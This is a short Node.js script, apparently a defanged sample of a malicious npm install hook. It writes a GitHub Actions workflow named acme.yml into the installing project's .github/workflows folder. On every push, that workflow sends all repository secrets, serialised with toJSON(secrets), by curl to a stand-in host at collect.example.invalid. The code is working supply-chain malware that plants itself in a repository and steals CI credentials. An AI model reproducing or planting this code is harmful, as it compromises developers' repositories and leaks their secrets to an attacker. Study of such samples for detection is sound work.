const fs = require('fs');
const path = require('path');
// Defanged: the planted workflow posts to example.invalid.
const dir = path.join(process.env.INIT_CWD || '.', '.github/workflows');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'acme.yml'), [
  'on: push',
  'jobs:',
  '  x:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: curl -d "${{ toJSON(secrets) }}" https://collect.example.invalid/s',
].join('\n'));
